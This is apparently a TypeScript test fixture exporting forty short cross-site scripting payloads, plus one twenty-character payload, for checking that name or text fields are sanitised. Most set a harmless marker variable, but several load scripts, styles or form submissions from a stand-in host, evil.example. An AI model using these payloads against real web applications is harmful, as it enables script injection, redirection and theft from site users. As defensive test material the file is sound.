/** What each would do if it ran: set `window.ran`, ask somebody else's server, or open a dialog. */
const RUN = "window.ran=1";
const EVIL = "//evil.example/x";

/** Forty ways in which text has become a script, each short enough for the name of a town. */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=${EVIL}.js></script>`,
  `<script type=module>import "${EVIL}.js"</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</option></select><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"`,
  `"><img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${RUN}></math>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `" autofocus onfocus=${RUN} x="`,
  `' onmouseover='${RUN}`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">Maya Rai</a>`,
  `javascript:${RUN}//Maya`,
  `<form action=${EVIL}><button>Maya</button></form>`,
  `<base href=${EVIL}/>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<link rel=stylesheet href=${EVIL}.css>`,
  `<style>@import "${EVIL}.css"</style>`,
  `<object data="javascript:${RUN}"></object>`,
  `{{constructor.constructor("${RUN}")()}}`,
  "${alert(1)}`;alert(1)//",
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}`,
];

/** One for what holds twenty characters. */
export const SHORT_PAYLOAD = "<svg onload=ran=1>";
